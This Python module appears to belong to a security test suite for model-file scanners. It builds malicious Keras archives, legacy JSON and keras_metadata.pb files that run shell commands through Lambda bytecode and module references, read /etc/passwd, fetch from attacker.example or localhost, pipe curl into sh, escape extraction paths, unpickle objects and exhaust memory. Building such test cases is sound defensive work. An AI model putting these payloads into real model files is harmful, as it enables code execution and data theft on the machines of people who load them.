"""Keras v3 archives, legacy JSON and keras_metadata.pb that run code, read files or lie (reference 2, Keras; 2.1 fact 11)."""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from pathlib import Path

import keras
import numpy as np

from .registry import Place, attack, fires


def template() -> tuple[dict, dict, bytes]:
    """Configuration, metadata and weights of a small model that Keras itself saved."""
    import tempfile

    model = keras.Sequential(
        [keras.Input([4]), keras.layers.Dense(3, name="hidden"), keras.layers.Dense(1, name="head")]
    )
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "m.keras"
        model.save(file)
        with zipfile.ZipFile(file) as held:
            return (
                json.loads(held.read("config.json")),
                {"keras_version": keras.__version__, "date_saved": "2026-01-01@00:00:00"},
                held.read("model.weights.h5"),
            )


def write(
    path: Path,
    config,
    metadata=None,
    weights: bytes | None = None,
    more=(),
    raw_config: bytes | None = None,
) -> None:
    """A .keras archive; `more` are further members in order, even of the same name."""
    _, usual, kernel = template()
    text = raw_config if raw_config is not None else json.dumps(config).encode()
    members = [
        ("metadata.json", json.dumps(metadata or usual).encode()),
        ("config.json", text),
        ("model.weights.h5", kernel if weights is None else weights),
        *more,
    ]
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as out:
        for name, data in members:
            out.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    path.write_bytes(held.getvalue())


def code_of(source: str) -> str:
    """The base64 of a marshalled function, as Keras stores a Lambda's."""
    scope: dict = {}
    exec(compile(source, "<lambda>", "exec"), scope)  # the generator's own text
    return base64.b64encode(marshal.dumps(scope["f"].__code__)).decode()


def touch(place: Place, name: str) -> str:
    return code_of(
        f"def f(x):\n    open({place.canary + '/out/' + name!r}, 'w').write('owned')\n    return x\n"
    )


def shell(command="id > /tmp/airlock-canary/out/shell") -> str:
    return code_of(f"def f(x):\n    import os\n    os.system({command!r})\n    return x\n")


def lambda_layer(code: str, name="norm", registered=None) -> dict:
    function = {
        "class_name": "__lambda__",
        "config": {"code": code, "defaults": None, "closure": None},
    }
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": registered,
        "config": {"name": name, "trainable": True, "function": function, "arguments": {}},
        "build_config": {"input_shape": [None, 1]},
    }


def with_layer(layer: dict) -> dict:
    config = template()[0]
    config["config"]["layers"].append(layer)
    return config


def wrapped(class_name: str, inner: dict, **more) -> dict:
    return {
        "module": "keras.layers",
        "class_name": class_name,
        "registered_name": None,
        "config": {"name": class_name.lower(), "layer": inner, **more},
    }


def module_reference(module: str, name: str, config=None, registered=None) -> dict:
    return {
        "module": module,
        "class_name": name,
        "registered_name": registered,
        "config": config if config is not None else {},
    }


def _keras(
    id, category, names, about, make, value=None, also=(), trigger="load-python", shows=None
):
    def build(place: Place):
        write(place.path, make(place))

    build.__doc__ = about
    attack(
        id,
        "keras",
        category,
        names,
        value,
        also=also,
        trigger=trigger,
        fires=shows,
        suffix=".keras",
    )(build)


def _runs(id):
    return fires("keras-unsafe", "writes", f"out/{id}")


LAMBDA = ["Lambda"]
_keras(
    "k3-lambda",
    "code-execution",
    LAMBDA,
    "A Lambda layer with bytecode.",
    lambda p: with_layer(lambda_layer(touch(p, "k3-lambda"))),
    shows=_runs("k3-lambda"),
)
_keras(
    "k3-lambda-shell",
    "code-execution",
    LAMBDA,
    "Bytecode that calls the shell.",
    lambda p: with_layer(lambda_layer(shell())),
)
_keras(
    "k3-lambda-time-distributed",
    "code-execution",
    LAMBDA,
    "A Lambda in TimeDistributed (modelscan#343).",
    lambda p: with_layer(wrapped("TimeDistributed", lambda_layer(shell()))),
)
_keras(
    "k3-lambda-bidirectional",
    "code-execution",
    LAMBDA,
    "A Lambda as the cell of an RNN in Bidirectional.",
    lambda p: with_layer(
        wrapped(
            "Bidirectional",
            module_reference("keras.layers", "RNN", {"name": "r", "cell": lambda_layer(shell())}),
            merge_mode="concat",
        )
    ),
)
_keras(
    "k3-lambda-nested-model",
    "code-execution",
    LAMBDA,
    "A Lambda in a Sequential in a Sequential.",
    lambda p: with_layer(_nested(lambda_layer(touch(p, "k3-lambda-nested-model")))),
    shows=_runs("k3-lambda-nested-model"),
)
_keras(
    "k3-lambda-activation",
    "code-execution",
    ["lambda", "Lambda"],
    "Bytecode as the activation of a Dense layer.",
    lambda p: _activation(touch(p, "k3-lambda-activation")),
    trigger="inference",
    shows=fires("keras-call", "writes", "out/k3-lambda-activation"),
)
_keras(
    "k3-lambda-loss",
    "code-execution",
    ["lambda", "Lambda"],
    "Bytecode as the loss of the compile configuration.",
    lambda p: _compiled({"class_name": "__lambda__", "config": {"code": shell()}}),
)
_keras(
    "k3-lambda-old-list",
    "code-execution",
    LAMBDA,
    "The list form of Keras 2 in a Keras 3 archive.",
    lambda p: with_layer(
        {
            "class_name": "Lambda",
            "config": {
                "name": "l",
                "function": [shell() + "\n", None, None],
                "function_type": "lambda",
                "module": "__main__",
                "output_shape": None,
                "output_shape_type": "raw",
                "arguments": {},
            },
        }
    ),
)
_keras(
    "k3-lambda-registered",
    "code-execution",
    ["lambda", "Lambda"],
    "A Lambda whose class_name is hidden behind a registered name.",
    lambda p: with_layer(lambda_layer(shell(), registered="keras>Lambda")),
)
_keras(
    "k3-module-os",
    "code-execution",
    ["os", "system"],
    "A function of module os (CVE-2025-1550).",
    lambda p: with_layer(
        _lambda_of(module_reference("os", "function", "system", "function"), {"command": "id"})
    ),
    "os",
)
_keras(
    "k3-module-subprocess",
    "code-execution",
    ["subprocess"],
    "A class of module subprocess with its arguments.",
    lambda p: with_layer(module_reference("subprocess", "Popen", {"args": ["id"]})),
)
_keras(
    "k3-module-builtins",
    "code-execution",
    ["builtins", "exec"],
    "builtins.exec as an initializer.",
    lambda p: _initializer(module_reference("builtins", "exec", {"source": "import os"})),
)
_keras(
    "k3-module-package",
    "code-execution",
    ["evil_package"],
    "A class of a package that the author hopes is installed.",
    lambda p: with_layer(module_reference("evil_package.layers", "Loader", {"name": "l"})),
    also=("custom-op",),
)
_keras(
    "k3-module-importlib",
    "code-execution",
    ["importlib"],
    "importlib as the dtype policy.",
    lambda p: _dtype(module_reference("importlib", "import_module", {"name": "evil"})),
)
_keras(
    "k3-get-file",
    "code-execution",
    ["get_file"],
    "keras.utils.get_file as a Lambda's function: downloads what it is told (CVE-2025-8747).",
    lambda p: with_layer(
        _lambda_of(
            module_reference("keras.utils", "function", "get_file", "get_file"),
            {
                "origin": "http://127.0.0.1:18431/x",
                "cache_dir": f"{p.canary}/out",
                "force_download": True,
            },
        )
    ),
    also=("network", "file-write"),
)
_keras(
    "k3-get-file-extract",
    "code-execution",
    ["get_file"],
    "The same by its path in keras.src, with extraction.",
    lambda p: with_layer(
        _lambda_of(
            module_reference("keras.src.utils.file_utils", "function", "get_file", "function"),
            {"origin": "https://attacker.example/a.tar.gz", "extract": True},
        )
    ),
    also=("network", "file-write"),
)
_keras(
    "k3-unsafe-switch",
    "code-execution",
    ["enable_unsafe_deserialization"],
    "keras.config.enable_unsafe_deserialization as a function: what follows is loaded without safe mode (CVE-2025-9906).",
    lambda p: with_layer(
        _lambda_of(
            module_reference(
                "keras.config", "function", "enable_unsafe_deserialization", "function"
            ),
            {},
        )
    ),
    also=("configuration",),
)
_keras(
    "k3-gallery",
    "code-execution",
    ["plot_image_gallery", "visualization"],
    "A public function of Keras as a Lambda's, which safe mode lets through (reference 2.1 fact 11).",
    lambda p: with_layer(
        _lambda_of(
            module_reference("keras.visualization", "function", "plot_image_gallery", "function"),
            {"path": f"{p.canary}/out/gallery.png"},
        )
    ),
    also=("file-write",),
)
_keras(
    "k3-load-model",
    "code-execution",
    ["load_model"],
    "keras.saving.load_model of another file without safe mode.",
    lambda p: with_layer(
        _lambda_of(
            module_reference("keras.saving", "function", "load_model", "function"),
            {"filepath": "/tmp/other.keras", "safe_mode": False},
        )
    ),
    also=("file-read",),
)
_keras(
    "k3-tfsm-layer",
    "code-execution",
    ["TFSMLayer"],
    "TFSMLayer loads a SavedModel from anywhere.",
    lambda p: with_layer(
        module_reference(
            "keras.layers",
            "TFSMLayer",
            {"name": "t", "filepath": "/tmp/evil_model", "call_endpoint": "serve"},
        )
    ),
    also=("file-read", "path-traversal"),
)
_keras(
    "k3-torch-wrapper",
    "code-execution",
    ["TorchModuleWrapper"],
    "TorchModuleWrapper holds a pickle (CVE-2025-49655).",
    lambda p: with_layer(
        module_reference("keras.layers", "TorchModuleWrapper", {"name": "t", "module": _torch()})
    ),
)
_keras(
    "k3-jax-layer",
    "code-execution",
    ["JaxLayer", "FlaxLayer"],
    "JaxLayer with a serialized function.",
    lambda p: with_layer(
        module_reference(
            "keras.layers",
            "JaxLayer",
            {
                "name": "j",
                "call_fn": {"class_name": "__lambda__", "config": {"code": shell()}},
                "params": None,
            },
        )
    ),
)
_keras(
    "k3-vocabulary-path",
    "file-read",
    ["vocabulary", "StringLookup"],
    "StringLookup whose vocabulary is a file of the machine (CVE-2025-12058).",
    lambda p: with_layer(
        module_reference(
            "keras.layers",
            "StringLookup",
            {"name": "s", "vocabulary": f"{p.canary}/secret.txt", "invert": False},
        )
    ),
    "secret.txt",
    also=("path-traversal",),
    shows=fires("keras-unsafe", "opens", "secret.txt"),
)
_keras(
    "k3-vocabulary-url",
    "network",
    ["vocabulary", "TextVectorization"],
    "TextVectorization whose vocabulary is in a bucket.",
    lambda p: with_layer(
        module_reference(
            "keras.layers",
            "TextVectorization",
            {"name": "s", "vocabulary": "gs://attacker/words.txt"},
        )
    ),
    "gs://attacker",
    also=("file-read",),
)
_keras(
    "k3-integer-vocabulary",
    "file-read",
    ["vocabulary", "IntegerLookup"],
    "IntegerLookup reads /etc/passwd.",
    lambda p: with_layer(
        module_reference(
            "keras.layers", "IntegerLookup", {"name": "s", "vocabulary": "/etc/passwd"}
        )
    ),
    "/etc/passwd",
)
_keras(
    "k3-units-bomb",
    "memory",
    ["units", "Dense", "head"],
    "A Dense layer of 10^11 units.",
    lambda p: _units(10**11),
    shows=None,
)
_keras(
    "k3-embedding-bomb",
    "memory",
    ["Embedding", "input_dim"],
    "An Embedding of 10^12 rows.",
    lambda p: with_layer(
        module_reference(
            "keras.layers", "Embedding", {"name": "e", "input_dim": 10**12, "output_dim": 4096}
        )
    ),
)
_keras(
    "k3-custom-string-config",
    "code-execution",
    LAMBDA,
    "A model configuration as JSON in a string of a layer's configuration.",
    lambda p: with_layer(
        module_reference(
            "keras.layers",
            "Dense",
            {"name": "d", "units": 1, "model_config": json.dumps(_nested(lambda_layer(shell())))},
        )
    ),
)


def _nested(layer):
    inner = template()[0]
    inner["config"]["name"] = "block"
    del inner["config"]["layers"][1:]
    inner["config"]["layers"].append(layer)
    inner["config"]["layers"][0]["config"]["batch_shape"] = [None, 1]
    return inner


def _activation(code):
    config = template()[0]
    config["config"]["layers"][-1]["config"]["activation"] = {
        "class_name": "__lambda__",
        "config": {"value": [code, None, None]},
    }
    return config


def _initializer(reference):
    config = template()[0]
    config["config"]["layers"][-1]["config"]["kernel_initializer"] = reference
    return config


def _dtype(reference):
    config = template()[0]
    config["config"]["layers"][-1]["config"]["dtype"] = reference
    return config


def _compiled(loss):
    config = template()[0]
    config["compile_config"] = {
        "optimizer": "adam",
        "loss": loss,
        "metrics": None,
        "loss_weights": None,
        "weighted_metrics": None,
        "run_eagerly": False,
    }
    return config


def _units(count):
    config = template()[0]
    config["config"]["layers"][-1]["config"]["units"] = count
    return config


def _lambda_of(function, arguments):
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {"name": "gadget", "function": function, "arguments": arguments},
    }


def _torch():
    from .code import _pickle

    return {"class_name": "__bytes__", "config": {"value": base64.b64encode(_pickle()).decode()}}


def _archive(
    id, category, names, about, make, value=None, also=(), trigger="load-python", shows=None
):
    def build(place: Place):
        make(place)

    build.__doc__ = about
    attack(
        id,
        "keras",
        category,
        names,
        value,
        also=also,
        trigger=trigger,
        fires=shows,
        suffix=".keras",
    )(build)


_archive(
    "k3-depth",
    "malformed",
    ["deep", "depth", "nest", "config.json"],
    "A configuration 20,000 levels deep.",
    lambda p: _deep(p),
    also=("unreadable", "crash"),
)
_archive(
    "k3-duplicate-json-key",
    "parser-differential",
    ["duplicate", "twice", "class_name"],
    "config.json with a key twice: readers disagree which holds.",
    lambda p: write(
        p.path,
        None,
        raw_config=json.dumps(with_layer(lambda_layer(shell())))
        .replace('"class_name": "Lambda"', '"class_name": "Dense", "class_name": "Lambda"')
        .encode(),
    ),
    also=("malformed", "code-execution"),
)
_archive(
    "k3-duplicate-member",
    "parser-differential",
    ["duplicate", "twice", "config.json"],
    "config.json twice in the archive: the clean one first.",
    lambda p: write(
        p.path,
        template()[0],
        more=[("config.json", json.dumps(with_layer(lambda_layer(shell()))).encode())],
    ),
    also=("malformed", "code-execution"),
)
_archive(
    "k3-zip-slip",
    "path-traversal",
    ["../", "slip.py"],
    "A member that climbs out of where it is extracted.",
    lambda p: write(p.path, template()[0], more=[("../../slip.py", b"import os")]),
    also=("payload", "file-write"),
)
_archive(
    "k3-zip-absolute",
    "path-traversal",
    ["/etc/cron.d", "absolute"],
    "A member with an absolute name.",
    lambda p: write(p.path, template()[0], more=[("/etc/cron.d/x", b"* * * * * root id")]),
    also=("payload", "file-write"),
)
_archive(
    "k3-script-member",
    "payload",
    ["setup.py", "run.sh"],
    "A script among the assets.",
    lambda p: write(
        p.path,
        template()[0],
        more=[("assets/run.sh", b"#!/bin/sh\ncurl http://127.0.0.1:18431/ | sh\n")],
    ),
    also=("code-execution",),
    trigger="none",
)
_archive(
    "k3-pickle-weights",
    "code-execution",
    ["pickle", "npz"],
    "Weights as .npz with an object array: a pickle.",
    lambda p: _npz(p),
    also=("payload",),
)
_archive(
    "k3-zip-bomb",
    "memory",
    ["ratio", "expand", "bomb", "too much", "grow", "model.weights.h5", "filler"],
    "Members that grow a thousandfold.",
    lambda p: _bomb(p),
    also=("malformed", "unreadable"),
    trigger="parse",
)
_archive(
    "k3-lied-size",
    "malformed",
    ["size", "differ", "central", "header"],
    "The central directory and the local header say different sizes and names.",
    lambda p: _lied(p),
    also=("parser-differential", "unreadable"),
    trigger="parse",
)
_archive(
    "k3-old-version",
    "code-execution",
    LAMBDA,
    "metadata.json says Keras 2.13, in the hope of an old path.",
    lambda p: write(
        p.path,
        with_layer(lambda_layer(shell())),
        {"keras_version": "2.13.0", "date_saved": "2020-01-01@00:00:00"},
    ),
)


def _npz(place: Place):
    class Run:
        def __reduce__(self):
            import os

            return os.system, ("touch /tmp/airlock-canary/out/npz",)

    held = io.BytesIO()
    np.savez(held, kernel=np.array([Run()], dtype=object))
    write(place.path, template()[0], weights=b"", more=[("model.weights.npz", held.getvalue())])


def _bomb(place: Place):
    config, metadata, weights = template()
    with zipfile.ZipFile(place.path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for name, data in (
            ("metadata.json", json.dumps(metadata)),
            ("config.json", json.dumps(config)),
            ("model.weights.h5", weights),
        ):
            out.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
        zeros = bytes(110_000_000)
        for number in range(3):
            info = zipfile.ZipInfo(f"assets/filler{number}", (1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            out.writestr(info, zeros)


def _lied(place: Place):
    write(place.path, with_layer(lambda_layer(shell())))
    data = bytearray(place.path.read_bytes())
    at = data.index(b"config.json")
    data[at : at + 11] = b"benign.json"
    place.path.write_bytes(bytes(data))


def _deep(place: Place):
    text = json.dumps(template()[0]).replace(
        '"trainable": true', '"trainable": ' + "[" * 20000 + "]" * 20000, 1
    )
    write(place.path, None, raw_config=text.encode())


def legacy(layers) -> dict:
    """A Keras 2 architecture, as model.to_json gave it."""
    return {
        "class_name": "Sequential",
        "keras_version": "2.11.0",
        "backend": "tensorflow",
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "class_name": "InputLayer",
                    "config": {
                        "batch_input_shape": [None, 4],
                        "dtype": "float32",
                        "sparse": False,
                        "ragged": False,
                        "name": "in",
                    },
                },
                {
                    "class_name": "Dense",
                    "config": {
                        "name": "dense",
                        "trainable": True,
                        "dtype": "float32",
                        "units": 3,
                        "activation": "relu",
                        "use_bias": True,
                    },
                },
                *layers,
            ],
        },
    }


def legacy_lambda(code: str) -> dict:
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {"class_name": "__tuple__", "items": [code + "\n", None, None]},
            "function_type": "lambda",
            "module": "__main__",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def _json(id, category, names, about, make, value=None, also=(), trigger="load-python"):
    def build(place: Place):
        place.path.write_text(json.dumps(make(place)))

    build.__doc__ = about
    attack(id, "keras-json", category, names, value, also=also, trigger=trigger, suffix=".json")(
        build
    )


_json(
    "kj-lambda",
    "code-execution",
    LAMBDA,
    "An architecture of Keras 2 with a Lambda.",
    lambda p: legacy([legacy_lambda(shell())]),
)
_json(
    "kj-lambda-wrapped",
    "code-execution",
    LAMBDA,
    "The same in TimeDistributed.",
    lambda p: legacy(
        [
            {
                "class_name": "TimeDistributed",
                "config": {"name": "t", "layer": legacy_lambda(shell())},
            }
        ]
    ),
)
_json(
    "kj-lambda-keras3",
    "code-execution",
    LAMBDA,
    "An architecture of Keras 3 with a Lambda.",
    lambda p: with_layer(lambda_layer(shell())),
)
_json(
    "kj-module",
    "code-execution",
    ["subprocess", "os"],
    "An architecture with a module reference.",
    lambda p: with_layer(module_reference("subprocess", "Popen", {"args": ["id"]})),
)
_json(
    "kj-vocabulary",
    "file-read",
    ["vocabulary", "StringLookup"],
    "An architecture with a vocabulary path.",
    lambda p: with_layer(
        module_reference("keras.layers", "StringLookup", {"vocabulary": "/etc/passwd"})
    ),
    "/etc/passwd",
)


def _metadata(nodes: list[tuple[int, str, str, dict]]) -> bytes:
    """keras_metadata.pb: SavedMetadata{nodes: SavedObject{node_id, node_path, identifier, metadata}}."""
    from .checkpoints import _varint

    def field(number, data: bytes) -> bytes:
        return _varint(number << 3 | 2) + _varint(len(data)) + data

    out = b""
    for node_id, path, identifier, metadata in nodes:
        version = b"\x08\x02\x10\x01"
        entry = (
            b"\x10"
            + _varint(node_id)
            + field(3, path.encode())
            + field(4, identifier.encode())
            + field(5, json.dumps(metadata).encode())
            + field(6, version)
        )
        out += field(1, entry)
    return out


@attack(
    "sm-keras-metadata-lambda", "savedmodel", "code-execution", LAMBDA, None, trigger="load-python"
)
def _(place: Place):
    """A SavedModel of Keras 2 whose keras_metadata.pb has a Lambda."""
    from .build import dense

    dense(place.path)
    layer = legacy_lambda(shell())
    data = _metadata(
        [
            (
                0,
                "root",
                "_tf_keras_sequential",
                {"name": "m", "class_name": "Sequential", "config": legacy([layer])["config"]},
            ),
            (
                1,
                "root.layer-0",
                "_tf_keras_layer",
                {"name": "lambda", "class_name": "Lambda", "config": layer["config"]},
            ),
        ]
    )
    (place.path / "keras_metadata.pb").write_bytes(data)


@attack(
    "sm-keras-metadata-alone", "savedmodel", "code-execution", LAMBDA, None, trigger="load-python"
)
def _(place: Place):
    """keras_metadata.pb whose Lambda is in a single node that the root does not mention."""
    from .build import dense

    dense(place.path)
    layer = {
        "class_name": "TimeDistributed",
        "config": {"name": "t", "layer": legacy_lambda(shell())},
    }
    (place.path / "keras_metadata.pb").write_bytes(
        _metadata([(7, "root.keras_api.layers.3", "_tf_keras_layer", {"name": "t", **layer})])
    )
